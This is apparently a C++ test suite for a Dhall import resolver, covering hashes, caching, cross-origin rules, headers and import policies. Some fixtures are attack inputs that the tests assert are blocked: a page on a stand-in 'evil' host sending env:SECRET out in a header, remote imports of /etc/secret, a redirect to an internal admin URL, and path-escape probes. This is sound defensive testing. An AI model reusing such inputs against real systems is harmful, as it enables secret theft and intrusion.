// Hashes, servers, headers and policies of imports.
#include "import_world.hpp"
#include "imports/walk.hpp"

using namespace sigil;
using namespace sigil::dhall;
using namespace sigil::test;

namespace {

Sha256Digest digest_of(std::string_view text) {
  return crypto::sha256(as_bytes(text));
}

const std::string kToken = "[{ mapKey = \"X-Token\", mapValue = \"t\" }]";
const HttpHeaders kAllowAll = {{"Access-Control-Allow-Origin", "*"}};

} // namespace

// ----- hashes ----------------------------------------------------------------------------------------------

TEST_CASE("a hash is compared with the normal form, which is then cached") {
  ImportTest test;
  FakeCache cache;
  test.options.cache = &cache;
  test.world.files = {{"./a", " 1 +  2"}};
  CHECK(test.resolve("./a " + sha256_of("1 + 2")) == "1 + 2");
  CHECK(cache.entries == decltype(cache.entries){{digest_of("1 + 2"), "1 + 2"}});
  const Error error = test.error("[7, ./a " + sha256_of("1 + 3") + "]");
  CHECK(error.kind() == ErrorKind::Integrity);
  CHECK(error.code() == "dhall.import.hash");
  CHECK(error.message().find(sha256_of("1 + 2")) != std::string::npos);
  CHECK(error.message().find(sha256_of("1 + 3")) != std::string::npos);
  CHECK(error.where().column == 5);
  CHECK(cache.entries.size() == 1);
}

TEST_CASE("a hash is compared although the import was resolved without one before") {
  ImportTest test;
  test.world.files = {{"./a", "3"}};
  CHECK(test.error("./a + ./a " + sha256_of("4") + " + ./a").code() == "dhall.import.hash");
  CHECK(test.resolve("./a " + sha256_of("3") + " + ./a + ./a " + sha256_of("3")) == "3 + 3 + 3");
  CHECK(test.world.log.size() == 1);
}

TEST_CASE("hashes of text and bytes are those of the literal") {
  ImportTest test;
  test.world.files = {{"./a", "x"}};
  CHECK(test.resolve("./a " + sha256_of("\"x\"") + " as Text") == "\"x\"");
  CHECK(test.resolve("./a " + sha256_of("0x\"78\"") + " as Bytes") == "0x\"78\"");
  CHECK(test.error("./a " + sha256_of("x") + " as Text").code() == "dhall.import.hash");
}

TEST_CASE("what is cached is imported from nowhere else") {
  ImportTest test;
  FakeCache cache;
  cache.entries[digest_of("1")] = "1";
  test.options.cache = &cache;
  test.world.pages = {{"https://h/x", {"~/secret " + sha256_of("1")}}};
  const std::string hash = sha256_of("1");
  CHECK(test.resolve("[missing " + hash + ", ./none " + hash + ", https://h/none " + hash + " ? 2]") ==
        "[1, 1, 1]");
  CHECK(test.world.log.empty());
  CHECK(test.language.decoded == 1);
  CHECK(cache.gets == 1);
  CHECK(test.resolver->graph().imports.back().from == ImportRecord::From::Cache);
  CHECK(test.resolve("https://h/x") == "1"); // as the standard has it: the cache comes first
}

TEST_CASE("a cached file with other content is not used but replaced") {
  ImportTest test;
  FakeCache cache;
  cache.entries[digest_of("1")] = "666";
  test.options.cache = &cache;
  test.world.files = {{"./a", "1"}};
  CHECK(test.resolve("./a " + sha256_of("1")) == "1");
  CHECK(cache.entries[digest_of("1")] == "1");
  REQUIRE(test.resolver->warnings().size() == 1);
  CHECK(test.resolver->warnings()[0].find(sha256_of("1")) != std::string::npos);
  cache.entries[digest_of("2")] = "666";
  CHECK(test.error("missing " + sha256_of("2")).code() == "dhall.import.missing");
  CHECK(test.resolve("missing " + sha256_of("2") + " ? 3") == "3");
}

TEST_CASE("a cached file that is no expression is imported anew") {
  ImportTest test;
  FakeCache cache;
  cache.entries[digest_of("$")] = "$";
  test.options.cache = &cache;
  test.world.files = {{"./a", "1"}};
  CHECK(test.error("./a " + sha256_of("$")).code() == "dhall.import.hash");
  CHECK(test.resolver->warnings().size() == 1);
}

TEST_CASE("a cached expression imports nothing and has a type") {
  ImportTest test;
  FakeCache cache;
  for (const char* text : {"[1, ./a]", "0 0"}) cache.entries[digest_of(text)] = text;
  test.options.cache = &cache;
  CHECK(test.error("missing " + sha256_of("[1, ./a]") + " ? 1").code() == "dhall.import.cached");
  CHECK(test.error("missing " + sha256_of("0 0") + " ? 1").code() == "dhall.type");
}

TEST_CASE("a cache that cannot be written is a warning") {
  ImportTest test;
  FakeCache cache;
  cache.is_writable = false;
  test.options.cache = &cache;
  test.world.files = {{"./a", "1"}, {"./b", "2"}};
  CHECK(test.resolve("./a " + sha256_of("1") + " + ./b " + sha256_of("2")) == "1 + 2");
  CHECK(test.resolver->warnings().size() == 1);
}

// ----- servers ---------------------------------------------------------------------------------------------

TEST_CASE("what comes from a server imports nothing of this machine") {
  ImportTest test;
  test.world.files = {{"/etc/secret", "1"}};
  test.world.variables = {{"SECRET", "1"}, {"HOME", "/u"}};
  for (const char* import :
       {"/etc/secret", "~/x", "env:SECRET", "env:SECRET as Text", "/etc/secret as Bytes"}) {
    CAPTURE(import);
    test.world.pages["https://h/a"] = {"./b"};
    test.world.pages["https://h/b"] = {"[1, " + std::string(import) + " ? 2]"};
    test.resolver.reset();
    const Error error = test.error("https://h/a");
    CHECK(error.kind() == ErrorKind::Invalid);
    CHECK(error.code() == "dhall.import.sanity");
    CHECK(error.where().file == "https://h/b");
    CHECK(error.where().column == 5);
    CHECK(error.context().size() == 3);
  }
  CHECK(std::count(test.world.log.begin(), test.world.log.end(), "/etc/secret") == 0);
}

TEST_CASE("headers of a page cannot carry secrets out") {
  ImportTest test;
  test.world.variables = {{"SECRET", "s"}};
  test.world.pages = {
      {"https://evil/a", {"https://evil/b using [{ mapKey = \"X\", mapValue = env:SECRET as Text }]"}},
      {"https://evil/b", {"1"}}};
  CHECK(test.error("https://evil/a").code() == "dhall.import.sanity");
  CHECK(test.world.requests.size() == 1);
}

TEST_CASE("pages import pages beside them, and 'missing'") {
  ImportTest test;
  test.world.pages = {
      {"https://h/a/x", {"./y + ../z ? 9"}}, {"https://h/a/y", {"missing ? 1"}}, {"https://h/z", {"2"}}};
  CHECK(test.resolve("https://h/a/x") == "1 + 2");
}

TEST_CASE("a page of another origin must allow its importer") {
  ImportTest test;
  test.world.pages = {{"https://h/a", {"https://open/x"}},   {"https://open/x", {"1", kAllowAll}},
                      {"https://h/b", {"https://closed/x"}}, {"https://closed/x", {"2"}},
                      {"https://h/c", {"http://h/x"}},       {"http://h/x", {"3"}},
                      {"https://h/d", {"https://friend/x"}}, {"https://friend/x", {"4"}}};
  test.world.pages["https://friend/x"].headers = {{"access-control-allow-origin", "https://h"}};
  CHECK(test.resolve("https://h/a") == "1");
  CHECK(test.resolve("https://h/d") == "4");
  CHECK(test.world.requests.back().origin == "https://h");
  CHECK(test.error("https://h/b").code() == "dhall.import.cors");
  CHECK(test.error("https://h/c").code() == "dhall.import.cors");
  CHECK(test.resolve("https://closed/x") == "2"); // by a file
  CHECK(test.world.requests.back().origin.empty());
}

TEST_CASE("permission is asked for each importer, whoever had the page read first") {
  ImportTest test;
  test.world.pages = {{"https://h/b", {"https://closed/x"}}, {"https://closed/x", {"2"}}};
  test.world.files = {{"./local", "https://closed/x"}};
  const Error error = test.error("./local + https://closed/x + https://h/b");
  CHECK(error.code() == "dhall.import.cors");
  CHECK(error.where().file == "https://h/b");
  CHECK(test.world.log.size() == 3); // ./local, closed, h (the configuration's variables are none)
}

TEST_CASE("a redirection to a server within needs its permission") {
  ImportTest test;
  test.world.pages = {{"https://h/a", {"./jump"}},
                      {"https://h/jump", {"1", {}, 200, "http://internal/admin"}}};
  CHECK(test.error("https://h/a").code() == "dhall.import.cors");
  CHECK(test.resolve("https://h/jump") == "1");
}

// ----- headers ---------------------------------------------------------------------------------------------

TEST_CASE("headers go with an import and with what is relative to it") {
  ImportTest test;
  test.world.pages = {{"https://h/a", {"[./b, ../c, https://h/d, https://other/e]"}},
                      {"https://h/b", {"1"}},
                      {"https://h/../c", {"2"}},
                      {"https://h/d", {"3"}},
                      {"https://other/e", {"4", kAllowAll}}};
  CHECK(test.resolve("https://h/a using " + kToken) == "[1, 2, 3, 4]");
  std::vector<std::string> with_token;
  for (const HttpRequest& request : test.world.requests)
    if (request.headers == HttpHeaders{{"X-Token", "t"}}) with_token.push_back(request.url);
  CHECK(with_token == std::vector<std::string>{"https://h/a", "https://h/b", "https://h/../c"});
}

TEST_CASE("imports with other headers are other imports") {
  ImportTest test;
  test.world.pages = {{"https://h/a", {"1"}}};
  test.world.files = {{"./token", kToken}};
  test.resolve("[https://h/a, https://h/a using " + kToken + ", https://h/a using ./token]");
  CHECK(test.world.requests.size() == 2);
}

TEST_CASE("imports of headers are imports, absent ones too") {
  ImportTest test;
  test.world.files = {{"./token", "./none ? " + kToken}};
  test.world.pages = {{"https://h/a", {"1"}}};
  CHECK(test.resolve("https://h/a using ./token") == "1");
  CHECK(test.world.requests.at(0).headers == HttpHeaders{{"X-Token", "t"}});
  CHECK(test.resolve("https://h/a using ./none ? 2") == "2");
  test.world.files["./cycle"] = "https://h/a using ./cycle";
  CHECK(test.error("./cycle").code() == "dhall.import.cycle");
}

TEST_CASE("headers are closed, and are headers") {
  ImportTest test;
  test.world.pages = {{"https://h/a", {"1"}}};
  const Error error = test.error("let t = " + kToken + " in https://h/a using t");
  CHECK(error.code() == "dhall.import.headers");
  CHECK(error.message().find("'t'") != std::string::npos);
  CHECK(error.where().column > 50);
  CHECK(test.error("\\(t : 0) -> https://h/a using (\\(x : 0) -> t)").code() == "dhall.import.headers");
  CHECK(test.error("https://h/a using y").code() == "dhall.import.headers");
  CHECK(test.error("https://h/a using [{ mapKey = \"A B\", mapValue = \"\" }]").code() ==
        "dhall.import.header");
  CHECK(test.error("https://h/a using \"x\"").code() == "dhall.type");
  CHECK(test.world.requests.empty());
}

TEST_CASE("slots of headers in the middle of a file are counted") {
  Heap heap;
  FakeLanguage language(heap);
  const auto parsed = [&](std::string_view text) {
    return language.parse(heap.sources().add("x", Blob::of(text))).expression;
  };
  Node* node =
      parsed("let a = 1 in let b = 2 in \\(c : 0) -> let d = 3 in let e = d in \\(f : 0) -> let g = f in g");
  while (node->kind == Kind::Let) node = as<LetNode>(*node).body;
  CHECK(slots_of_closed(*node, heap.sources()) == 1);
  Node* body = as<BinderNode>(*node).body;
  CHECK(slots_of_closed(*body, heap.sources()) == 3); // d and e stand behind c in its frame
  Node* inner = as<LetNode>(*body).body;
  const Error error = error_of([&] { slots_of_closed(*inner, heap.sources()); });
  CHECK(error.code() == "dhall.import.headers");
  CHECK(error.where().column == 60); // d, behind 'let e ='
}

TEST_CASE("configured headers are sent to their origin") {
  const std::string configuration = "[{ mapKey = \"h:443\", mapValue = ./config/token }]";
  const auto check = [&](ImportTest& test) {
    test.world.pages = {{"https://h/a", {"https://other/b"}}, {"https://other/b", {"1", kAllowAll}}};
    test.world.files["/x/config/token"] = test.world.files["/x/dhall/config/token"] =
        test.world.files["/u/.config/dhall/config/token"] = test.world.files["./config/token"] = kToken;
    CHECK(test.resolve("https://h/a using [{ mapKey = \"x-token\", mapValue = \"theirs\" }] + https://h/a") ==
          "1 + 1");
    REQUIRE(test.world.requests.size() == 3);
    CHECK(test.world.requests[0].headers == HttpHeaders{{"X-Token", "t"}});
    CHECK(test.world.requests[1].headers.empty());
    CHECK(test.world.requests[2].headers == HttpHeaders{{"X-Token", "t"}});
  };
  SECTION("from a variable, before all files") {
    ImportTest test;
    test.world.variables = {{"DHALL_HEADERS", configuration}, {"XDG_CONFIG_HOME", "/x"}};
    test.world.files["/x/dhall/headers.dhall"] = "$";
    check(test);
  }
  SECTION("from the folder of configurations") {
    ImportTest test;
    test.world.variables = {{"XDG_CONFIG_HOME", "/x"}, {"HOME", "/u"}};
    test.world.files["/x/dhall/headers.dhall"] = configuration;
    test.world.files["/u/.config/dhall/headers.dhall"] = "$";
    check(test);
  }
  SECTION("from the home folder") {
    ImportTest test;
    test.world.variables = {{"HOME", "/u"}};
    test.world.files["/u/.config/dhall/headers.dhall"] = configuration;
    check(test);
  }
}

TEST_CASE("without a configuration there are no configured headers") {
  ImportTest test;
  test.world.pages = {{"https://h/a", {"1"}}};
  CHECK(test.resolve("https://h/a") == "1");
  ImportTest other; // set, but the file is not there: the home folder is not asked
  other.world.pages = test.world.pages;
  other.world.variables = {{"XDG_CONFIG_HOME", "/x"}, {"HOME", "/u"}};
  other.world.files["/u/.config/dhall/headers.dhall"] = "$";
  CHECK(other.resolve("https://h/a") == "1");
  ImportTest local; // only requests need it
  local.world.variables = {{"DHALL_HEADERS", "$"}};
  CHECK(local.resolve("1") == "1");
}

TEST_CASE("a broken configuration is an error, whatever the alternative") {
  const std::pair<const char*, const char*> cases[] = {{"$", "dhall.syntax.unexpected"},
                                                       {"0 0", "dhall.type"},
                                                       {"\"x\"", "dhall.type"},
                                                       {"./none", "dhall.import.missing"},
                                                       {"https://h/a", "dhall.import.cycle"},
                                                       {"./remote", "dhall.import.cycle"}};
  for (const auto& [text, code] : cases) {
    CAPTURE(text);
    ImportTest test;
    test.world.variables = {{"DHALL_HEADERS", text}};
    test.world.files = {{"./remote", "https://h/b"}};
    test.world.pages = {{"https://h/a", {"1"}}, {"https://h/b", {"1"}}};
    for (int i = 0; i < 2; ++i) CHECK(test.error("https://h/a ? 2").code() == code);
    CHECK(test.world.requests.empty());
  }
}

TEST_CASE("a configuration that is imported by the expression is read once") {
  ImportTest test;
  test.world.variables = {{"DHALL_HEADERS", "[{ mapKey = \"h:443\", mapValue = " + kToken + " }]"}};
  test.world.pages = {{"https://h/a", {"1"}}};
  test.run("[env:DHALL_HEADERS, https://h/a]");
  CHECK(test.language.parsed == 3);
  CHECK(test.world.requests.at(0).headers.size() == 1);
}

// ----- policies --------------------------------------------------------------------------------------------

TEST_CASE("who allows no imports gets none, whatever the alternative") {
  ImportTest test;
  FakeCache cache;
  cache.entries[digest_of("1")] = "1";
  test.options.cache = &cache;
  test.options.policy = Policy::nothing();
  test.world.files = {{"./a", "1"}};
  test.world.variables = {{"X", "1"}};
  for (const std::string import :
       {"./a", "env:X", "https://h/a", "missing", "./a as Location", "https://h/a using ./a"}) {
    CAPTURE(import);
    const Error error = test.error("[1, " + import + " ? 2]");
    CHECK(error.code() == "dhall.import.forbidden");
    CHECK(error.where().column == 5);
  }
  CHECK(test.error("missing " + sha256_of("1")).code() == "dhall.import.forbidden");
  CHECK(test.resolve("1 + 2") == "1 + 2");
  CHECK(test.world.log.empty());
}

TEST_CASE("files may be confined to a folder") {
  ImportTest test;
  test.options.policy = Policy::folder("./in/../in");
  test.world.variables = {{"X", "1"}, {"HOME", "/cwd"}, {"DHALL_HEADERS", "$"}};
  test.world.files = {{"/cwd/in/a", "./b"}, {"/cwd/in/b", "1"}, {"/cwd/out", "2"}, {"/cwd/inside", "3"}};
  test.world.links = {{"./in/link", "/cwd/out"}, {"./in/top", "/cwd"}, {"./good", "/cwd/in"}};
  CHECK(test.resolve("[./in/a, ~/in/a, /cwd/in/b, ./good/b, ./in/top/in/b]") == "[1, 1, 1, 1, 1]");
  const std::string outside[] = {"./out",       "./inside",       "./in/link", "./in/top/out",
                                 "./in/../out", "/cwd/in/../out", "~/out",     "./in/none/../../out",
                                 "./none",      "/etc/none",      "../in/a"};
  for (const std::string& import : outside) {
    CAPTURE(import);
    test.world.log.clear();
    // Whether or not it exists: nothing outside can be probed for.
    const Error error = test.error(import + " ? 2");
    CHECK(error.kind() == ErrorKind::Invalid);
    CHECK(error.code() == "dhall.import.forbidden");
    CHECK(test.error(import + " as Text ? 2").code() == "dhall.import.forbidden");
    CHECK(test.world.log.empty());
  }
  CHECK(test.resolve("./in/none ? 2") == "2");
  CHECK(test.error("env:X ? 2").code() == "dhall.import.forbidden");
  CHECK(test.error("https://h/a ? 2").code() == "dhall.import.forbidden");
  CHECK(test.resolve("env:X as Location") == "<>.Environment \"X\"");
}

TEST_CASE("a confined expression gets none of the user's headers") {
  ImportTest test;
  test.options.policy = Policy::folder("/cwd/in");
  test.options.policy.http = true;
  test.world.pages = {{"https://h/a", {"1"}}};
  test.world.variables = {{"XDG_CONFIG_HOME", "/x"}};
  test.world.files = {{"/x/dhall/headers.dhall", "[{ mapKey = \"h:443\", mapValue = " + kToken + " }]"}};
  CHECK(test.resolve("https://h/a") == "1");
  CHECK(test.world.requests.at(0).headers.empty());
  ImportTest variable;
  variable.options = test.options;
  variable.world.pages = test.world.pages;
  variable.world.variables = {{"DHALL_HEADERS", "$"}};
  CHECK(variable.resolve("https://h/a") == "1");
}

TEST_CASE("a user's password in a URL is in no message") {
  ImportTest test;
  test.world.pages = {{"https://me:secret@h/a", {"[1, ./b, ~/c]"}}, {"https://me:secret@h/b", {"$"}}};
  for (const char* text : {"https://me:secret@h/a", "https://me:secret@h/none/x"}) {
    const Error error = test.error(text);
    // The fetcher of the test shows it, the real one does not.
    if (error.code() != "dhall.import.missing") CHECK(error.render("x").find("secret") == std::string::npos);
  }
}
